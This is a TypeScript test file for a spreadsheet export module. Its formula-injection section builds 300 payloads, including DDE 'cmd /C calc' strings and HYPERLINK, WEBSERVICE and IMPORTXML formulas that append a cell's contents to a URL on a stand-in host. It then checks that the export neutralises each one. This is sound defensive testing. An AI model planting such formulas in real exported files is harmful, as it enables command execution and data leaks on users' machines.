import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import readSheet from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Cell, looksLikeFormula } from '#contract/noun/csv.ts';
import { sceneDocument } from '#contract/scene-control.ts';
import { csvText } from '#server/kernel/sheet/csv.ts';
import { writeSheet } from '#server/kernel/sheet/write-sheet.ts';
import { sheetXml } from '#server/kernel/sheet/xlsx.ts';
import { cellReader, sheetColumns } from './cells.ts';

let folder: string;
let made = 0;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'scf-portal-sheet-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

const text = (value: string): Cell => ({ value, isNumber: false });
const number = (value: string): Cell => cellReader({ title: '', as: 'number' }, new Map())(value);

async function* once(rows: Cell[][]) {
  yield await Promise.resolve(rows);
}
async function joined(parts: AsyncIterable<string>): Promise<string> {
  let all = '';
  for await (const part of parts) all += part;
  return all;
}
async function written(rows: Cell[][], format: 'xlsx' | 'csv' = 'xlsx'): Promise<string> {
  made += 1;
  const path = join(folder, `${made}.${format}`);
  const titles = (rows[0] ?? []).map((_, index) => `列${index + 1}`);
  await writeSheet({ path, format, name: '示例', titles, at: new Date(0) }, once(rows));
  return path;
}
/** The rows below the head, as another library reads them. */
async function readBack(rows: Cell[][]): Promise<unknown[][]> {
  const sheets = await readSheet(await written(rows));
  const [first] = sheets as unknown as { sheet: string; data: unknown[][] }[];
  expect(first?.sheet).toBe('示例');
  return first?.data.slice(1) ?? [];
}

/** Texts that spreadsheets have run: every way to begin, before every thing to call. */
const LEADS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '\u200B=',
  '\t',
  '\r',
];
const CALLS = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://example.invalid?"&A1,"明细")',
  'WEBSERVICE("http://example.invalid")',
  'IMPORTXML(CONCAT("http://example.invalid?",A1),"//a")',
  "SUM(1,2)*cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'A1',
  '"x",=1+1',
  "'=1+1",
  ';=1+1',
  '1\n=1+1',
  '1\r\n=1+1',
  '--1',
  '0001',
  '@SUM(1)',
  '+1',
  '%0A=1',
  '示例公司',
  '$A$1',
];
const PAYLOADS = LEADS.flatMap((lead) => CALLS.map((call) => lead + call));

describe('texts that look like formulas', () => {
  test('there are 300 of them, and each is seen', () => {
    expect(PAYLOADS).toHaveLength(300);
    expect(PAYLOADS.filter((payload) => !looksLikeFormula(payload))).toEqual([]);
    for (const plain of ['示例', '3-5 日', 'a=b', '13800000000', '《合同》', '']) {
      expect(looksLikeFormula(plain)).toBe(false);
    }
  });

  test('in xlsx they are texts, equal when read, and numbers beside them are numbers', async () => {
    const rows = PAYLOADS.map((payload) => [text(payload), number('-12.50')]);
    const xml = await joined(sheetXml(['甲', '乙'], once(rows)));
    expect(xml).not.toMatch(/<f[ >]/);
    expect(xml.match(/t="(?:str|inlineStr)"/g)).toHaveLength(2 + PAYLOADS.length);
    expect(xml.match(/<v>-12\.50<\/v>/g)).toHaveLength(PAYLOADS.length);
    const back = await readBack(rows);
    const plain = PAYLOADS.map((payload, i) => [payload, back[i]?.[0], back[i]?.[1]] as const);
    // The reader trims cells and does not know _xHHHH_; what the text says is in the XML above.
    const seen = (value: unknown) => String(value).replaceAll('_x000D_', '\r').trim();
    expect(plain.filter(([sent, got]) => seen(got) !== sent.trim())).toEqual([]);
    expect(plain.every(([, , amount]) => amount === -12.5)).toBe(true);
  });

  test('in csv each begins with an apostrophe, and negative amounts do not', async () => {
    const csv = await joined(csvText(['甲'], once(PAYLOADS.map((payload) => [text(payload)]))));
    const cells = [...csv.slice(4).matchAll(/(?:"((?:[^"]|"")*)"|([^"\r\n]*))\r\n/g)];
    expect(cells.map(([, quoted, bare]) => (quoted ?? bare ?? '').replaceAll('""', '"'))).toEqual(
      PAYLOADS.map((payload) => `'${payload}`),
    );
    expect(await joined(csvText(['甲'], once([[number('-12.50')]])))).toBe(
      '\uFEFF甲\r\n-12.50\r\n',
    );
  });
});

describe('values', () => {
  test('money is the decimal that was stored, and stays exact where Excel would round', async () => {
    const sums = [
      '0.1',
      '0.30',
      '1234567890123.45',
      '99999999999.99999',
      '-0.00001',
      '0.00',
      '100',
    ];
    const rows = sums.map((sum) => [number(sum)]);
    const xml = await joined(sheetXml(['金额'], once(rows)));
    const styled = (style: number) =>
      [...xml.matchAll(RegExp(` s="${style}"><v>(.*?)</v>`, 'g'))].map(([, sum]) => sum);
    expect(styled(3)).toEqual(sums.filter((sum) => !['99999999999.99999', '100'].includes(sum)));
    // Days and counts are shown without decimals.
    expect(styled(4)).toEqual(['100']);
    expect(await readBack(rows)).toEqual(
      sums.map((sum) => [sum === '99999999999.99999' ? sum : Number(sum)]),
    );
  });

  test('what is no decimal is no number', () => {
    for (const value of ['', '1e5', '1,000', '--1', '0x10', 'NaN', ' 1']) {
      expect(number(value)).toEqual({ value, isNumber: false });
    }
  });

  test('long digits, markup, quotes, lines and odd characters come back equal', async () => {
    const odd = ['105100000017', '<b>&amp;"\'</b>', '甲\n乙', '😀 “示例”', 'a]]>b', '010'];
    expect(await readBack(odd.map((value) => [text(value)]))).toEqual(odd.map((value) => [value]));
  });

  test('what XML cannot say is escaped, and so is what looks escaped', async () => {
    const xml = await joined(sheetXml(['甲'], once([[text('\u0001\uD800_x0041_\r')]])));
    expect(xml).toContain('>_x0001__xD800__x005F_x0041__x000D_<');
  });

  test('codes have names, flags words', () => {
    const names = new Map([['BankType 1', '基本存款账户']]);
    const column = { title: '', codeOf: 'BankType' };
    expect(cellReader(column, names)('1').value).toBe('基本存款账户');
    expect(cellReader(column, names)('77').value).toBe('77');
    const limit = { title: '', as: 'number', part: 'available' } as const;
    expect(cellReader(limit, names)({ available: '12.50', used: '1' })).toEqual({
      value: '12.50',
      isNumber: true,
    });
    expect(cellReader(limit, names)(null)).toEqual({ value: '', isNumber: false });
    const [[field, due] = ['', limit]] = sheetColumns(sceneDocument.console.sheet, ['dueTime']);
    expect(field).toBe('nextStep');
    expect(cellReader(due, names)({ dueTime: '2026-05-20 18:00:00' }).value).toBe(
      '2026-05-20 18:00:00',
    );
    expect(cellReader({ title: '', as: 'flag' }, names)(true).value).toBe('是');
    expect(cellReader({ title: '', as: 'flag' }, names)(false).value).toBe('否');
  });
});

describe('writing', () => {
  test('ends with the error of its rows', async () => {
    async function* broken() {
      yield await Promise.resolve([[text('甲')]]);
      throw new Error('the rows have ended');
    }
    for (const format of ['xlsx', 'csv'] as const) {
      const path = join(folder, `broken.${format}`);
      const file = { path, format, name: '示例', titles: ['甲'], at: new Date(0) };
      await expect(writeSheet(file, broken())).rejects.toThrow('the rows have ended');
    }
  });

  test('takes the next batch only when the last one is on its way', async () => {
    const path = join(folder, 'flat.csv');
    let ahead = 0;
    async function* slow() {
      for (let i = 0; i < 20; i += 1) {
        ahead = Math.max(ahead, i * 2000 - readLength(path));
        yield await Promise.resolve([[text('示'.repeat(50_000))]]);
      }
    }
    await writeSheet({ path, format: 'csv', name: '', titles: ['甲'], at: new Date(0) }, slow());
    expect(readFileSync(path).length).toBe(20 * (150_000 + 2) + 3 + 3 + 2);
    expect(ahead).toBeLessThan(20 * 2000);
  });
});

function readLength(path: string): number {
  try {
    return readFileSync(path).length;
  } catch {
    return 0;
  }
}
